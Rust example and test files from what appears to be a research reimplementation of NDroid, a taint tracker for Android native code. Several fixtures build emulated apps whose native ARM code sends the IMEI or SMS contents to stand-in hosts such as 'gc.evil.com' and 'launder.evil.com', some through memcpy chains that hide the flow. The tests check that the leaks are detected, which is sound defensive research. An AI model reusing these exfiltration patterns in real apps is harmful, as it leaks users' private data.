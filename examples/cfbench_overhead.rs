//! Overhead walkthrough (Fig. 10): run a few CF-Bench-analog kernels
//! under each analysis configuration and print the slowdowns.
//!
//! ```sh
//! cargo run --release --example cfbench_overhead
//! ```

use ndroid::cfbench::run_suite;
use ndroid::core::Mode;

fn main() {
    println!("running the CF-Bench-analog suite (this takes ~a minute) …\n");
    let modes = [Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike];
    let report = run_suite(&modes, 30_000, 3);
    println!("{}", report.render());
    println!(
        "NDroid keeps Java near-native ({:.2}x) while paying only where it\n\
         must — in third-party native code ({:.2}x) — whereas the\n\
         DroidScope-like whole-system tracer pays everywhere ({:.2}x overall,\n\
         matching the >=11x band the paper cites).",
        report.java_score(Mode::NDroid),
        report.native_score(Mode::NDroid),
        report.overall_score(Mode::DroidScopeLike),
    );
}
