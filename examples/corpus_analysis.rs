//! Market-study walkthrough: generate the calibrated 227,911-app
//! corpus and run the §III classification pipeline over the raw
//! records, printing the Fig. 2 category distribution as an ASCII
//! chart.
//!
//! ```sh
//! cargo run --release --example corpus_analysis
//! ```

use ndroid::corpus::{classify, generate, CorpusConfig};

fn main() {
    let config = CorpusConfig::default();
    println!("generating {} app records (seed {:#x}) …", config.total, config.seed);
    let records = generate(&config);

    let stats = classify(&records);
    println!("\napps using JNI (§III):");
    println!("  type I   : {:>6}  — call System.load()/loadLibrary()", stats.type1);
    println!("  type II  : {:>6}  — ship .so files without load calls", stats.type2);
    println!(
        "             {:>6}  — … of which can load them via a hidden dex",
        stats.type2_loadable
    );
    println!("  type III : {:>6}  — pure native (NativeActivity)", stats.type3);

    println!("\nFig. 2 — Type I category distribution:");
    let max = stats.category_histogram.first().map(|(_, n)| *n).unwrap_or(1);
    for (cat, n) in stats.category_histogram.iter().take(12) {
        let bar = "#".repeat(1 + n * 50 / max);
        println!(
            "  {:<20} {:>6} ({:>4.1}%) {bar}",
            cat.name(),
            n,
            100.0 * *n as f64 / stats.type1 as f64
        );
    }

    println!("\nmost-bundled native libraries:");
    for (lib, n) in stats.top_libraries.iter().take(10) {
        println!("  {lib:<28} {n:>6}");
    }
    println!(
        "\n{:.2}% of the corpus loads native code — the paper's headline 16.46%.",
        100.0 * stats.native_fraction
    );
}
