//! Gallery: run every workload app in the suite under NDroid and print
//! a one-line verdict for each — a fast tour of what the analysis sees.
//!
//! ```sh
//! cargo run --example app_gallery
//! ```

use ndroid::apps::*;
use ndroid::core::report::describe_leak;
use ndroid::core::Mode;

fn verdict(app: App) {
    let name = app.name.clone();
    let description = app.description.clone();
    match app.run(Mode::NDroid) {
        Ok(sys) => {
            let leaks = sys.leaks();
            if leaks.is_empty() {
                println!("  CLEAN  {name:<24} {description}");
            } else {
                println!("  LEAK   {name:<24} {}", describe_leak(leaks[0]));
            }
        }
        Err(e) => println!("  ERROR  {name:<24} {e}"),
    }
}

fn main() {
    println!("=== app gallery (all workloads, NDroid mode) ===\n");
    println!("-- Table I case matrix --");
    for (_, app, _) in all_case_apps() {
        verdict(app);
    }
    println!("\n-- real-app replicas (Figs. 6-9) --");
    verdict(qq_phonebook::qq_phonebook());
    verdict(ephone::ephone());
    verdict(poc_case2::poc_case2());
    verdict(poc_case3::poc_case3());
    println!("\n-- extensions --");
    verdict(thumb_spy::thumb_spy());
    verdict(crypto_hider::crypto_hider());
    verdict(dyndex::dyndex_app());
    verdict(pure_native::native_game_leaky());
    verdict(driver::gated_leak_app()); // entry without enable: clean
    println!("\n-- benign controls --");
    verdict(benign::physics_game());
    verdict(benign::audio_license_check());
    verdict(benign::dsp_filter());
    verdict(pure_native::native_game_benign());
}
