//! Leak-detection tour: run every information-flow scenario of the
//! paper's Table I plus the real-app replicas (Figs. 6–9) under both
//! TaintDroid-only and NDroid, and print the detection matrix and the
//! per-leak details.
//!
//! ```sh
//! cargo run --example leak_detection
//! ```

use ndroid::apps::{all_case_apps, ephone, poc_case2, poc_case3, qq_phonebook};
use ndroid::core::report::describe_leak;
use ndroid::core::Mode;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("=== Table I — the five {{source, intermediate, sink}} cases ===\n");
    println!("{:<10} {:<42} {:<12} {:<12}", "case", "flow", "taintdroid", "ndroid");
    for (case, _, _) in all_case_apps() {
        let (desc, td, nd) = {
            let apps = all_case_apps();
            let (_, app_td, _) = apps
                .into_iter()
                .find(|(c, _, _)| *c == case)
                .expect("case exists");
            let desc = app_td.description.clone();
            let td = !app_td.run(Mode::TaintDroid)?.leaks().is_empty();
            let apps = all_case_apps();
            let (_, app_nd, _) = apps
                .into_iter()
                .find(|(c, _, _)| *c == case)
                .expect("case exists");
            let nd = !app_nd.run(Mode::NDroid)?.leaks().is_empty();
            (desc, td, nd)
        };
        let cell = |b: bool| if b { "detected" } else { "MISSED" };
        println!("{case:<10} {desc:<42} {:<12} {:<12}", cell(td), cell(nd));
    }

    println!("\n=== Real-app replicas (Figs. 6–9) under NDroid ===\n");
    for (fig, app) in [
        ("Fig. 6", qq_phonebook::qq_phonebook()),
        ("Fig. 7", ephone::ephone()),
        ("Fig. 8", poc_case2::poc_case2()),
        ("Fig. 9", poc_case3::poc_case3()),
    ] {
        let name = app.name.clone();
        let sys = app.run(Mode::NDroid)?;
        for leak in sys.leaks() {
            println!("{fig} {name:<16} {}", describe_leak(leak));
            println!("{:>24} data: {}", "", truncate(&leak.data, 60));
        }
    }
    Ok(())
}

fn truncate(s: &str, n: usize) -> String {
    if s.len() <= n {
        s.to_string()
    } else {
        format!("{}…", &s[..n])
    }
}
