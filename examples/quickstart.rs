//! Quickstart: build a tiny app with a Java→native→network leak, run
//! it under TaintDroid-only and under NDroid, and compare what each
//! one sees.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

fn build_app() -> Result<ndroid::apps::App, Box<dyn std::error::Error>> {
    let mut b = AppBuilder::new("quickstart", "IMEI -> native code -> socket");
    let class = b.class("Lquickstart/Main;");

    // --- The native method, in genuine ARM machine code -------------
    // void exfiltrate(String dest, String imei)
    let entry = b.asm.label();
    b.asm.bind(entry)?;
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R5, Reg::R1); // save imei jstring
    // dest_c = GetStringUTFChars(dest, NULL)
    b.asm.mov_imm(Reg::R1, 0)?;
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    // imei_c = GetStringUTFChars(imei, NULL)
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R1, 0)?;
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R5, Reg::R0);
    // fd = socket(); connect(fd, dest_c); send(fd, imei_c, strlen, 0)
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov(Reg::R1, Reg::R5);
    b.asm.mov_imm(Reg::R3, 0)?;
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let native = b.native_method(class, "exfiltrate", "VLL", true, entry);

    // --- The Java side, in Dalvik-style bytecode ---------------------
    let get_imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")?;
    let dest = b.string_const("collector.example.com");
    b.method(
        class,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: get_imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    Ok(b.finish("Lquickstart/Main;", "main")?)
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("=== NDroid quickstart ===\n");

    for mode in [Mode::TaintDroid, Mode::NDroid] {
        let sys = build_app()?.run(mode)?;
        println!("--- under {mode} ---");
        println!(
            "  network traffic: {} message(s) to {}",
            sys.kernel.network_log.len(),
            sys.kernel
                .network_log
                .first()
                .map(|(d, _, _)| d.as_str())
                .unwrap_or("-")
        );
        match sys.leaks().first() {
            Some(leak) => println!(
                "  DETECTED: {} leaked to {} via {} [{}]",
                leak.taint.source_names().join(","),
                leak.dest,
                leak.sink,
                mode
            ),
            None => println!("  detected: nothing (the IMEI left the device unseen!)"),
        }
        println!();
    }

    println!("The data crossed the JNI boundary into native code, so only");
    println!("NDroid — which tracks taint through GetStringUTFChars, the");
    println!("instruction tracer and the send() sink — reports the leak.");
    Ok(())
}
