//! SourcePolicy stack arguments: "the first four parameters are passed
//! in R0 to R3, and the remaining parameters are pushed onto stack"
//! (§V-B) — `SourcePolicy.stack_args_num`/`stack_args_taints` cover
//! them. The paper's QQPhoneBook method has 11 parameters
//! (`IILLLLLLLLII`), so taint arriving in a stack slot is the norm,
//! not the exception.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

/// Native `void wide(int, int, int, int, int, String secret)` — the
/// tainted String is argument index 5, i.e. the **second stack slot**.
fn wide_args_app() -> ndroid::apps::App {
    let mut b = AppBuilder::new(
        "wide-args",
        "tainted parameter beyond R0-R3 (stack-passed, like QQPhoneBook's 11-arg method)",
    );
    let c = b.class("Lapp/Wide;");
    let dest = b.data_cstr("wide.evil.com");

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    // The 6th argument (index 5) lives at [sp + 4] *before* our push;
    // after pushing 3 words it is at [sp + 12 + 4].
    b.asm.ldr(Reg::R0, Reg::SP, 16); // the jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "wide", "VIIIIIL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 5 },
                DexInsn::Const { dst: 0, value: 10 },
                DexInsn::Const { dst: 1, value: 11 },
                DexInsn::Const { dst: 2, value: 12 },
                DexInsn::Const { dst: 3, value: 13 },
                DexInsn::Const { dst: 4, value: 14 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0, 1, 2, 3, 4, 5],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(6),
    );
    b.finish("Lapp/Wide;", "main").unwrap()
}

#[test]
fn stack_passed_tainted_argument_tracked() {
    let sys = wide_args_app().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "taint arrived via a stack slot");
    assert!(leaks[0].taint.contains(Taint::SMS));
    assert_eq!(leaks[0].dest, "wide.evil.com");
    assert!(leaks[0].data.contains("secret meeting"));
    // The SourcePolicy recorded a stack argument.
    let log = sys.trace.render();
    assert!(log.contains("args[5]"), "six-argument call logged:\n{log}");
}

#[test]
fn taintdroid_misses_even_with_its_policy() {
    // TaintDroid's JNI policy taints the *return value* — this method
    // returns void, and the sink is native, so it sees nothing.
    let sys = wide_args_app().run(Mode::TaintDroid).unwrap();
    assert!(sys.leaks().is_empty());
    assert_eq!(sys.kernel.network_log.len(), 1);
}
