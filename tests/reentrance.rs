//! Java↔native re-entrance at arbitrary depth: a Java method recursing
//! through a native trampoline (bytecode → `dvmCallJNIMethod` → ARM →
//! `CallStaticIntMethod` → `dvmInterpret` → bytecode → …) must unwind
//! cleanly and compute the right value, with taint carried the whole
//! way.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::{BinOp, CmpOp, DexInsn};
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid_testkit::prelude::*;

fn pingpong_app() -> (ndroid::apps::App, u32) {
    let mut b = AppBuilder::new("pingpong", "Java<->native mutual recursion");
    let c = b.class("Lapp/R;");
    let cls_str = b.data_cstr("Lapp/R;");
    let step_str = b.data_cstr("step");

    // Native hop(I)I: calls back into Java step(I)I.
    let hop_entry = b.asm.label();
    b.asm.bind(hop_entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0); // the int argument
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.push(RegList::of(&[Reg::R0, Reg::LR]));
    b.asm.ldr_const(Reg::R1, step_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.pop(RegList::of(&[Reg::R0, Reg::LR]));
    b.asm.mov(Reg::R2, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticIntMethod"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let hop = b.native_method(c, "hop", "II", true, hop_entry);

    // Java step(I)I: n == 0 ? 0 : hop(n-1) + 1
    b.method(
        c,
        MethodDef::new(
            "step",
            "II",
            MethodKind::Bytecode(vec![
                DexInsn::IfTestZ {
                    op: CmpOp::Ne,
                    a: 1,
                    target: 2,
                },
                DexInsn::Return { src: 1 }, // n == 0
                DexInsn::BinOpLit {
                    op: BinOp::Sub,
                    dst: 0,
                    a: 1,
                    lit: 1,
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: hop,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::BinOpLit {
                    op: BinOp::Add,
                    dst: 0,
                    a: 0,
                    lit: 1,
                },
                DexInsn::Return { src: 0 },
            ]),
        )
        .with_registers(2),
    );
    let app = b.finish("Lapp/R;", "step").unwrap();
    (app, 0)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    #[test]
    fn pingpong_recursion_unwinds(depth in 1u32..14) {
        let (app, _) = pingpong_app();
        let mut sys = app.launch(Mode::NDroid);
        let (v, taint) = sys
            .run_java("Lapp/R;", "step", &[(depth, Taint::IMEI)])
            .unwrap();
        prop_assert_eq!(v, depth);
        // TaintDroid's JNI policy + the DVM rules keep the argument
        // taint on the result through every crossing.
        prop_assert!(taint.contains(Taint::IMEI));
        prop_assert_eq!(sys.dvm.stack.depth(), 0, "all Java frames unwound");
    }
}

#[test]
fn deep_nesting_under_all_modes() {
    for mode in [Mode::Vanilla, Mode::TaintDroid, Mode::NDroid] {
        let (app, _) = pingpong_app();
        let mut sys = app.launch(mode);
        let (v, _) = sys.run_java("Lapp/R;", "step", &[(10, Taint::CLEAR)]).unwrap();
        assert_eq!(v, 10, "{mode}");
    }
}
