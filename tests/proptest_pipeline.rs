//! Property-based tests over the whole pipeline: taint soundness
//! invariants that must hold for arbitrary data and program shapes.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::{BinOp, DexInsn};
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;
use ndroid_testkit::prelude::*;

/// Builds an app whose native code memcpy-shuffles the secret through
/// `hops` intermediate buffers before sending it.
fn laundering_app(hops: u32) -> ndroid::apps::App {
    let mut b = AppBuilder::new("launder", "memcpy chain then send");
    let c = b.class("Lapp/L;");
    let mut buffers = Vec::new();
    for _ in 0..=hops {
        buffers.push(b.data_buffer(128));
    }
    let dest = b.data_cstr("launder.evil.com");

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    // strcpy into buffer 0, then memcpy hop by hop.
    b.asm.ldr_const(Reg::R0, buffers[0]);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("strcpy"));
    for w in buffers.windows(2) {
        b.asm.ldr_const(Reg::R0, w[1]);
        b.asm.ldr_const(Reg::R1, w[0]);
        b.asm.mov_imm(Reg::R2, 64).unwrap();
        b.asm.call_abs(libc_addr("memcpy"));
    }
    // socket/connect/send from the last buffer.
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.ldr_const(Reg::R1, *buffers.last().unwrap());
    b.asm.mov_imm(Reg::R2, 16).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "launder", "VL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/L;", "main").unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// No matter how many memcpy hops the secret takes through native
    /// memory, NDroid still flags the send — and TaintDroid still
    /// misses it.
    #[test]
    fn laundering_depth_never_defeats_ndroid(hops in 1u32..8) {
        let sys = laundering_app(hops).run(Mode::NDroid).unwrap();
        prop_assert_eq!(sys.leaks().len(), 1);
        prop_assert!(sys.leaks()[0].taint.contains(Taint::SMS));
        let sys = laundering_app(hops).run(Mode::TaintDroid).unwrap();
        prop_assert!(sys.leaks().is_empty());
    }

    /// Arbitrary Java arithmetic on a tainted value keeps the taint
    /// (explicit-flow soundness of the DVM rules).
    #[test]
    fn java_arithmetic_preserves_taint(ops in collection::vec(0u8..5, 1..20)) {
        use ndroid::dvm::framework::install_framework;
        use ndroid::dvm::{Dvm, Program, ClassDef};
        let mut p = Program::new();
        install_framework(&mut p);
        let c = p.add_class(ClassDef { name: "Lt/T;".into(), ..ClassDef::default() });
        let mut code = Vec::new();
        for op in &ops {
            let binop = [BinOp::Add, BinOp::Sub, BinOp::Mul, BinOp::Xor, BinOp::Or][*op as usize];
            code.push(DexInsn::BinOpLit { op: binop, dst: 0, a: 0, lit: 3 });
        }
        code.push(DexInsn::Return { src: 0 });
        let m = p.add_method(
            c,
            MethodDef::new("f", "II", MethodKind::Bytecode(code)).with_registers(1),
        );
        let mut dvm = Dvm::new(p);
        let (_, taint) = dvm
            .invoke_with(m, &[(12345, Taint::IMSI)], &mut ndroid::dvm::interp::NoNatives)
            .unwrap();
        prop_assert_eq!(taint, Taint::IMSI);
    }

    /// Clean data stays clean: no spurious taint is ever invented by
    /// the native pipeline (no false positives by construction).
    #[test]
    fn clean_inputs_produce_clean_sinks(len in 1usize..40) {
        use ndroid::dvm::framework::install_framework;
        use ndroid::dvm::Program;
        use ndroid::core::NDroidSystem;
        let mut p = Program::new();
        install_framework(&mut p);
        let mut sys = NDroidSystem::new(p, Mode::NDroid);
        // Clean guest data written straight to a socket via libc.
        let mut asm = ndroid::arm::Assembler::new(ndroid::emu::layout::NATIVE_CODE_BASE);
        asm.push(RegList::of(&[Reg::R4, Reg::LR]));
        asm.call_abs(libc_addr("socket"));
        asm.mov(Reg::R4, Reg::R0);
        asm.ldr_const(Reg::R1, 0x2000_0000);
        asm.call_abs(libc_addr("connect"));
        asm.mov(Reg::R0, Reg::R4);
        asm.ldr_const(Reg::R1, 0x2000_0100);
        asm.ldr_const(Reg::R2, len as u32);
        asm.mov_imm(Reg::R3, 0).unwrap();
        asm.call_abs(libc_addr("send"));
        asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
        let code = asm.assemble().unwrap();
        sys.load_native(&code, "libclean.so");
        sys.mem.write_cstr(0x2000_0000, b"clean.example.com");
        sys.mem.write_bytes(0x2000_0100, &vec![0x41; len]);
        sys.run_native(ndroid::emu::layout::NATIVE_CODE_BASE, &[]).unwrap();
        prop_assert_eq!(sys.kernel.events.len(), 1);
        prop_assert!(sys.leaks().is_empty());
    }
}
