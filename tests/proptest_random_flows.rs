//! The system-level soundness/precision contract, property-tested over
//! randomly generated apps:
//!
//! * any explicit source→sink chain (arbitrary native transformation
//!   hops, any sink kind) is detected by NDroid with the right label;
//! * flows that read-but-discard the sensitive value are never flagged;
//! * TaintDroid never reports anything NDroid does not (it can only
//!   under-taint, not over-taint).

use ndroid::apps::synth::{build, FlowSpec, Hop, Mutation, Sink, Source};
use ndroid::core::Mode;
use ndroid_testkit::prelude::*;

fn arb_source() -> impl Strategy<Value = Source> {
    prop_oneof![
        Just(Source::Imei),
        Just(Source::Contact),
        Just(Source::Sms),
        Just(Source::Location),
    ]
}

fn arb_hop() -> impl Strategy<Value = Hop> {
    prop_oneof![
        Just(Hop::Strcpy),
        Just(Hop::Memcpy),
        Just(Hop::XorLoop),
        Just(Hop::Sprintf),
        Just(Hop::Strdup),
    ]
}

fn arb_sink() -> impl Strategy<Value = Sink> {
    prop_oneof![
        Just(Sink::NativeSend),
        Just(Sink::NativeFile),
        Just(Sink::JavaSend),
    ]
}

fn arb_mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        Just(Mutation::Xor29),
        Just(Mutation::Reverse),
        Just(Mutation::ConstStamp),
        Just(Mutation::ImplicitOnly),
    ]
}

fn arb_spec() -> impl Strategy<Value = FlowSpec> {
    (
        arb_source(),
        collection::vec(arb_hop(), 0..5),
        arb_sink(),
        any::<bool>(),
        collection::vec(arb_mutation(), 0..3),
    )
        .prop_map(|(source, hops, sink, leak, mutations)| FlowSpec {
            source,
            hops,
            sink,
            leak,
            mutations,
        })
}

/// Expected detection under either tracking mode's *design*: the real
/// leak surviving any taint-killing mutations
/// ([`FlowSpec::expected_leak`]), plus TaintDroid's conservative JNI
/// return policy ("the return value will be tainted if any parameter
/// is tainted", §II-B) — when the native return feeds a Java sink,
/// the policy flags it even if the returned string is a decoy (or a
/// mutation severed the data flow). NDroid runs on top of TaintDroid,
/// so it inherits that deliberate over-approximation.
fn expected_flagged(spec: &FlowSpec) -> bool {
    spec.expected_leak() || spec.sink == Sink::JavaSend
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn ndroid_detects_exactly_the_leaking_specs(spec in arb_spec()) {
        let sys = build(&spec).run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        if expected_flagged(&spec) {
            prop_assert_eq!(
                leaks.len(), 1,
                "soundness: {:?} must be detected", spec
            );
            if spec.expected_leak() {
                prop_assert!(
                    leaks[0].taint.contains(spec.source.taint()),
                    "label preserved through {:?}: got {}",
                    spec.hops, leaks[0].taint
                );
            }
        } else {
            prop_assert!(
                leaks.is_empty(),
                "precision: decoy spec flagged: {:?}", spec
            );
        }
        // The sink always fired — detection differences are about
        // labels, not execution.
        prop_assert!(!sys.all_sink_events().is_empty());
    }

    #[test]
    fn taintdroid_never_reports_more_than_ndroid(spec in arb_spec()) {
        let td = !build(&spec).run(Mode::TaintDroid).unwrap().leaks().is_empty();
        let nd = !build(&spec).run(Mode::NDroid).unwrap().leaks().is_empty();
        prop_assert!(
            !td || nd,
            "TaintDroid flagged something NDroid did not: {:?}", spec
        );
        // TaintDroid's only extra reports come from its conservative
        // return policy; outside that, no false positives.
        if !expected_flagged(&spec) {
            prop_assert!(!td, "TaintDroid false positive on {:?}", spec);
        }
    }
}
