//! Design decision D4: native-side taints are keyed by **indirect
//! reference**, so a moving GC between JNI calls cannot stale them
//! (§II-A / §V-B of the paper).

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

/// An app whose native code stashes a *global reference* to a tainted
/// string in step 1 and exfiltrates it in step 2 — with a full moving
/// GC cycle between the two steps (driven from the test).
fn build_two_phase_app() -> ndroid::apps::App {
    let mut b = AppBuilder::new("gc-two-phase", "global ref survives moving GC");
    let c = b.class("Lapp/Gc;");
    let ref_slot = b.data_buffer(8);

    // void stash(String s): g = NewGlobalRef(s)
    let stash = b.asm.label();
    b.asm.bind(stash).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.call_abs(dvm_addr("NewGlobalRef"));
    b.asm.ldr_const(Reg::R1, ref_slot);
    b.asm.str(Reg::R0, Reg::R1, 0);
    b.asm.pop(RegList::of(&[Reg::PC]));
    let stash_m = b.native_method(c, "stash", "VL", true, stash);

    // void leak(): chars = GetStringUTFChars(g); socket; connect; send
    let leak = b.asm.label();
    b.asm.bind(leak).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, ref_slot);
    b.asm.ldr(Reg::R0, Reg::R0, 0);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    let dest = b.data_cstr("gc.evil.com");
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let leak_m = b.native_method(c, "leak", "V", true, leak);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "phase1",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: stash_m,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.method(
        c,
        MethodDef::new(
            "phase2",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: leak_m,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Gc;", "phase1").unwrap()
}

#[test]
fn taint_survives_moving_gc_between_jni_calls() {
    let mut sys = build_two_phase_app().launch(Mode::NDroid);
    sys.run_java("Lapp/Gc;", "phase1", &[]).unwrap();

    // Moving GC: every object's direct address changes.
    let before = sys.dvm.heap.gc_cycles;
    sys.force_gc();
    sys.force_gc();
    sys.force_gc();
    assert_eq!(sys.dvm.heap.gc_cycles, before + 3);

    sys.run_java("Lapp/Gc;", "phase2", &[]).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "leak detected across GC cycles");
    assert!(leaks[0].taint.contains(Taint::SMS));
    assert_eq!(leaks[0].dest, "gc.evil.com");
    assert!(leaks[0].data.contains("secret meeting"));
}

#[test]
fn taintdroid_misses_the_same_flow() {
    let mut sys = build_two_phase_app().launch(Mode::TaintDroid);
    sys.run_java("Lapp/Gc;", "phase1", &[]).unwrap();
    sys.force_gc();
    sys.run_java("Lapp/Gc;", "phase2", &[]).unwrap();
    assert!(sys.leaks().is_empty());
    assert_eq!(sys.kernel.network_log.len(), 1, "but the SMS left anyway");
}

#[test]
